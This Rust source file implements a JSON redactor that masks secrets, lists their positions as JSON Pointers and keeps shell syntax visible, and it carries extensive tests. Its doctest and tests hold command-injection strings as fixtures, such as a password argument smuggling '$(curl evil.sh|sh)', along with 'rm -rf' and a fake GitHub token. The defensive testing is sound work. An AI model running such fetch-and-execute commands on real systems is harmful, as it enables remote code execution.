//! A document without secrets, and a list of its masked places.

use std::fmt;
use std::sync::Arc;

use super::Redactor;
use super::mask::MaskReason;
use super::recorder::{RecordedSecret, Recorder};
use super::tree::apart;
use crate::json::{Json, push_part};

/// A document without secrets, with its masked places.
///
/// It has the structure of the original document: an object stays an object, a list a list, and the
/// characters in a text that a shell would act on stay where they are. A masked number becomes a
/// string.
#[derive(Debug)]
#[non_exhaustive]
pub struct RedactedJson {
    /// The document without secrets.
    pub tree: Json,
    /// The masked places in document order: at most a thousand, with a pointer of at most 4096
    /// bytes each.
    pub places: Vec<MaskedPlace>,
    /// The number of masked places beyond those listed.
    pub more: usize,
}

/// The most places that are listed. Places and pointers are bounded because a key may be as long as
/// a document, and each place below it would name it.
const MAX_PLACES: usize = 1_000;
/// The longest pointer of a listed place, in bytes.
pub const MAX_POINTER: usize = 4_096;

/// A place where a document has a mask.
#[derive(Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct MaskedPlace {
    /// A JSON Pointer (RFC 6901) into the document without secrets.
    pub pointer: String,
    /// True if the mask is in the key that the pointer ends with, and not in the value.
    pub in_key: bool,
    /// The start of the mask in that text, in characters.
    pub start: usize,
    /// The reason why it is masked.
    pub reason: MaskReason,
    secret: String,
}

impl MaskedPlace {
    /// Returns the number of characters that the mask covers.
    pub fn characters(&self) -> usize {
        self.secret.chars().count()
    }
}

impl fmt::Debug for MaskedPlace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { pointer, in_key, start, reason, secret: _ } = self;
        write!(f, "MaskedPlace({pointer:?}, in_key: {in_key}, at {start}, {reason:?})")
    }
}

impl Redactor {
    /// Returns a copy of `tree` without secrets, and its masked places; `None` if it has no secret.
    /// It is masked as [`json`](Self::json) masks it, but a mask never covers an object, a list or
    /// syntax.
    ///
    /// ```
    /// # use hitl::{json::parse_json, redact::{Redactor, MaskReason}};
    /// let call = parse_json(r#"{"auth": {"user": "ann"}, "run": "--password=\"x9$(curl evil.sh)\""}"#)?;
    /// let marked = Redactor::standard().redact_with_places(&call).unwrap();
    /// assert_eq!(
    ///     marked.tree.to_text(),
    ///     r#"{"auth":{"user":"[redacted]"},"run":"--password=\"[redacted]$([redacted])\""}"#,
    /// );
    /// assert_eq!(marked.places[0].pointer, "/auth/user");
    /// assert_eq!((marked.places[2].reason, marked.places[2].characters()), (MaskReason::Name, 12));
    /// # Ok::<(), hitl::json::ParseJsonError>(())
    /// ```
    pub fn redact_with_places(&self, tree: &Json) -> Option<RedactedJson> {
        let recorder = Arc::new(Recorder::new(tree));
        let recording =
            Self { masker: self.masker.recording(Arc::clone(&recorder)), only: self.only.clone() };
        let found = recording.json_if_changed(tree)?;
        let mut finish =
            Finish { redactor: self, recorder: &recorder, places: Vec::new(), more: 0 };
        let tree = finish.tree(&found, &mut String::new());
        Some(RedactedJson { tree, places: finish.places, more: finish.more })
    }

    /// Returns the fingerprint of the secret at a place: ten hexadecimal digits, keyed, so that
    /// equal secrets have equal fingerprints and nobody finds a secret by trying. `None` without a
    /// key.
    ///
    /// The fingerprint of a secret that could be guessed is stable within one `scope` only.
    pub fn fingerprint(&self, place: &MaskedPlace, scope: &[u8]) -> Option<String> {
        self.masker.fingerprint(&place.secret, scope)
    }
}

/// Replaces placeholders with masks, and lists them.
struct Finish<'r> {
    redactor: &'r Redactor,
    recorder: &'r Recorder,
    places: Vec<MaskedPlace>,
    more: usize,
}

impl Finish<'_> {
    fn tree(&mut self, tree: &Json, at: &mut String) -> Json {
        let depth = at.len();
        match tree {
            Json::String(text) => Json::String(self.text(text, at, false)),
            Json::Array(items) => {
                let mut clean = Vec::with_capacity(items.len());
                for (index, item) in items.iter().enumerate() {
                    push_part(at, &index.to_string());
                    clean.push(self.tree(item, at));
                    at.truncate(depth);
                }
                Json::Array(clean)
            }
            Json::Object(entries) => {
                // Keys first: pointers name them in their final form.
                let mut in_keys = Vec::new();
                let mut keys: Vec<(String, Json)> = Vec::with_capacity(entries.len());
                for (index, (key, _)) in entries.iter().enumerate() {
                    let before = self.places.len();
                    keys.push((self.text(key, "", true), Json::Null));
                    in_keys.extend(self.places.drain(before..).map(|place| (index, place)));
                }
                let mut in_keys = in_keys.into_iter().peekable();
                let mut clean = apart(keys);
                for (index, (entry, (_, value))) in clean.iter_mut().zip(entries).enumerate() {
                    push_part(at, &entry.0);
                    while let Some((_, place)) = in_keys.next_if(|(of, _)| *of == index) {
                        self.list(place, at);
                    }
                    entry.1 = self.tree(value, at);
                    at.truncate(depth);
                }
                Json::Object(clean)
            }
            other => other.clone(),
        }
    }

    fn text(&mut self, text: &str, at: &str, in_key: bool) -> String {
        let mut out = String::with_capacity(text.len());
        let (mut rest, mut characters) = (text, 0);
        while let Some(next) = rest.find("[redacted") {
            let (before, from) = rest.split_at(next);
            out.push_str(before);
            characters += before.chars().count();
            let Some((placeholder, RecordedSecret { secret, reason, .. })) =
                self.recorder.leading(from)
            else {
                let (literal, after) = from.split_at(1);
                out.push_str(literal);
                characters += 1;
                rest = after;
                continue;
            };
            let mask = self.redactor.masker.final_mask(&secret);
            let start = characters;
            characters += mask.chars().count();
            out.push_str(&mask);
            rest = &from[placeholder.len()..];
            let place = MaskedPlace { pointer: String::new(), in_key, start, reason, secret };
            self.list(place, at);
        }
        out.push_str(rest);
        out
    }

    /// Lists a place, or counts it if there are too many.
    fn list(&mut self, mut place: MaskedPlace, at: &str) {
        if self.places.len() < MAX_PLACES && at.len() <= MAX_POINTER {
            at.clone_into(&mut place.pointer);
            self.places.push(place);
        } else {
            self.more += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::json::parse_json;

    fn marked(text: &str) -> Option<RedactedJson> {
        Redactor::standard().with_key([7; 32]).redact_with_places(&parse_json(text).unwrap())
    }

    fn shown(text: &str) -> String {
        marked(text).map_or_else(|| text.to_owned(), |marked| marked.tree.to_text())
    }

    #[test]
    fn invariant_9b_a_mask_never_covers_an_object_or_a_list() {
        assert_eq!(
            shown(r#"{"auth":{"a":"one","b":[1,{"rm":"-rf"}],"c":true,"d":null}}"#),
            r#"{"auth":{"a":"[redacted]","b":["[redacted]",{"rm":"[redacted]"}],"c":true,"d":null}}"#
        );
        assert_eq!(
            shown(r#"{"password":["x","y"],"secret":[["deep"]]}"#),
            r#"{"password":["[redacted]","[redacted]"],"secret":[["[redacted]"]]}"#
        );
        let nested = shown(r#"{"body":"{\"password\":{\"run\":\"x y\"}}"}"#);
        assert_eq!(nested, r#"{"body":"{\"password\":{\"run\":\"[redacted]\"}}"}"#);
    }

    #[test]
    fn invariant_9b_a_mask_never_covers_what_a_shell_acts_on() {
        for (value, syntax) in [
            ("$(curl x)", "$()"),
            ("`id`", "``"),
            ("a;rm b|c&d<e>f", ";|&<>"),
            ("${IFS}x", "${}"),
            ("a\nb\r\nc", "\n\r\n"),
            ("a%SYSTEMROOT%b^&calc", "%%^&"),
            ("~root/a*b?c!-1", "~*?!"),
            ("a'b\"c", "'\""),
            ("a%24%28b%29%3Bc%0ad%2524e", "%24%28%29%3B%0a%25"),
            (
                "a\u{FF04}\u{FF08}b\u{FF09}\u{FF1B}c\u{37E}d",
                "\u{FF04}\u{FF08}\u{FF09}\u{FF1B}\u{37E}",
            ),
            ("a\u{2028}b\u{202E}c\u{1B}[31m", "\u{2028}\u{202E}\u{1B}"),
            ("a\\x24(b)", "\\()"),
            ("a\u{2018}b\u{2019}", "\u{2018}\u{2019}"),
        ] {
            let tree = Json::Object(vec![("password".to_owned(), Json::String(value.to_owned()))]);
            let marked = Redactor::standard().redact_with_places(&tree).unwrap();
            let shown = marked.tree.get("password").unwrap().as_str().unwrap();
            assert_eq!(shown.replace("[redacted]", "").replace(' ', ""), syntax, "{shown:?}");
        }
        let command =
            shown(r#"{"command":"mysql --password=\"x9$(curl evil.sh|sh)y\" --host db"}"#);
        assert_eq!(
            command.replace(":7b0292150a", ""),
            r#"{"command":"mysql --password=\"[redacted]$([redacted]|[redacted])[redacted]\" --host db"}"#
        );
    }

    #[test]
    fn each_place_says_where_and_why() {
        let text = r#"{"note":"password=Wq7tR9k2x and ghp_abcdefghijklmnopqrstuvwxyz0123456789 end","a/b~c":{"pin":4711},"x":"[redacted] [redacted:0000000000]"}"#;
        let marked = marked(text).unwrap();
        let at = |place: &MaskedPlace| {
            (place.pointer.clone(), place.start, place.reason, place.characters())
        };
        let places: Vec<_> = marked.places.iter().map(at).collect();
        assert_eq!(places[0], ("/note".to_owned(), 9, MaskReason::Name, 9));
        assert_eq!(places[1].0, "/note");
        assert_eq!((places[1].2, places[1].3), (MaskReason::Shape, 40));
        assert_eq!(places[2], ("/a~1b~0c/pin".to_owned(), 0, MaskReason::Name, 4));
        assert_eq!(places.len(), 3, "a text that looks like a mask is none: {places:?}");
        assert_eq!(
            marked.tree.get("x").unwrap().as_str(),
            Some("[redacted] [redacted:0000000000]")
        );
        let note = marked.tree.get("note").unwrap().as_str().unwrap();
        let mask: String = note.chars().skip(places[1].1).collect();
        assert!(mask.starts_with("[redacted:"), "{note}");
    }

    #[test]
    fn keys_that_are_secrets_are_places_too_and_no_pointer_tells_them() {
        let token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
        let marked = marked(&format!(r#"{{"by":{{"{token}":{{"password":"x"}}}}}}"#)).unwrap();
        assert!(marked.places[0].in_key);
        assert!(!format!("{marked:?}").contains(token));
        assert_eq!(marked.places[1].pointer, format!("{}/password", marked.places[0].pointer));
    }

    #[test]
    fn equal_secrets_have_equal_fingerprints_and_guessable_ones_in_one_scope_only() {
        let redactor = Redactor::standard().with_key([7; 32]);
        let strong = "kJ8s0fPq2LmX9vTz4RwB";
        let tree = parse_json(&format!(
            r#"{{"password":"{strong}","secret":"{strong}","pin":"4711","passcode":"4711"}}"#
        ))
        .unwrap();
        let places = redactor.redact_with_places(&tree).unwrap().places;
        let of = |at: usize, scope: &[u8]| redactor.fingerprint(&places[at], scope).unwrap();
        assert_eq!(of(0, b"one"), of(1, b"two"));
        assert_eq!(of(2, b"one"), of(3, b"one"));
        assert_ne!(of(2, b"one"), of(2, b"two"));
        assert_eq!(Redactor::standard().fingerprint(&places[0], b""), None);
    }

    #[test]
    fn invariant_13_a_list_of_masks_is_bounded_for_any_keys() {
        let long = "k".repeat(MAX_POINTER + 1);
        let many: Vec<Json> = (0..1_500).map(|n| Json::String(format!("p{n}"))).collect();
        for (key, listed) in [("a", MAX_PLACES), (long.as_str(), 0)] {
            let password = Json::Object(vec![("password".to_owned(), Json::Array(many.clone()))]);
            let tree = Json::Object(vec![(key.to_owned(), password)]);
            let marked = Redactor::standard().redact_with_places(&tree).unwrap();
            assert_eq!((marked.places.len(), marked.more), (listed, 1_500 - listed));
        }
        // A text of only syntax.
        let syntax =
            Json::Object(vec![("password".to_owned(), Json::String("a;".repeat(100_000)))]);
        let marked = Redactor::standard().redact_with_places(&syntax).unwrap();
        assert!(marked.tree.to_text().len() < 200_000 && marked.more > 9_000);
        // Keys with equal masks.
        let keys = (0..3_000).map(|n| (format!("password=hu{n}x"), Json::Null)).collect();
        let marked = Redactor::standard().redact_with_places(&Json::Object(keys)).unwrap();
        let mut names: Vec<_> = marked.tree.entries().iter().map(|(key, _)| key.clone()).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), 3_000);
    }

    fn text() -> impl Strategy<Value = String> {
        let part = prop_oneof![
            Just("--password=".to_owned()),
            Just("\"$(curl x | sh)\"".to_owned()),
            Just("token: ghp_abcdefghijklmnopqrstuvwxyz0123456789".to_owned()),
            Just("[redacted]".to_owned()),
            Just("[redacted:0000000001]".to_owned()),
            Just("{\"password\":\"hunter2\",\"k\":[1]}".to_owned()),
            Just("https://u:p4ss;word@h/?key=1".to_owned()),
            "[a-zA-Z0-9;$` \u{2028}]{0,24}",
        ];
        proptest::collection::vec(part, 0..5).prop_map(|parts| parts.concat())
    }

    fn tree() -> impl Strategy<Value = Json> {
        let leaf = prop_oneof![
            text().prop_map(Json::String),
            "[1-9][0-9]{0,18}".prop_map(|n| Json::Number(n.into())),
            Just(Json::Null),
        ];
        let key = prop_oneof!["[a-z]{1,4}", Just("auth".to_owned()), Just("password".to_owned())];
        leaf.prop_recursive(3, 24, 4, move |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 0..4).prop_map(Json::Array),
                proptest::collection::btree_map(key.clone(), inner, 0..4)
                    .prop_map(|entries| Json::Object(entries.into_iter().collect())),
            ]
        })
    }

    /// Compares both documents place by place.
    fn compare(real: &Json, shown: &Json, pointer: &str, marked: &RedactedJson) {
        match (real, shown) {
            (Json::Object(real), Json::Object(shown)) => {
                assert_eq!(real.len(), shown.len());
                for ((_, real), (key, shown)) in real.iter().zip(shown) {
                    compare(real, shown, &format!("{pointer}/{key}"), marked);
                }
            }
            (Json::Array(real), Json::Array(shown)) => {
                assert_eq!(real.len(), shown.len());
                for (at, (real, shown)) in real.iter().zip(shown).enumerate() {
                    compare(real, shown, &format!("{pointer}/{at}"), marked);
                }
            }
            (real, shown) if real != shown => {
                let here = marked.places.iter().filter(|p| !p.in_key && p.pointer == pointer);
                let text = shown.as_str().expect("only texts and numbers are masked");
                let mut masks = 0;
                for place in here {
                    masks += 1;
                    let from: String = text.chars().skip(place.start).collect();
                    assert!(from.starts_with("[redacted"), "{text} {place:?}");
                }
                assert!(masks > 0, "{pointer} is masked and not listed: {real:?} {shown:?}");
            }
            _ => {}
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        #[test]
        fn invariant_9b_what_is_masked_keeps_its_structure_and_is_listed(tree in tree()) {
            let redactor = Redactor::standard().with_key([7; 32]);
            if let Some(marked) = redactor.redact_with_places(&tree) {
                compare(&tree, &marked.tree, "", &marked);
            }
        }

        #[test]
        fn invariant_8_what_redaction_masks_is_masked_with_marks_too(tree in tree()) {
            let redactor = Redactor::standard();
            let plain = redactor.json(&tree);
            let marked = redactor.redact_with_places(&tree);
            prop_assert!(plain != tree || marked.is_none());
            let shown = marked.map_or_else(|| tree.to_text(), |marked| marked.tree.to_text());
            for secret in ["hunter2", "ghp_abcdefgh", "curl x"] {
                prop_assert!(plain.to_text().contains(secret) || !shown.contains(secret), "{} {}", secret, shown);
            }
        }
    }
}
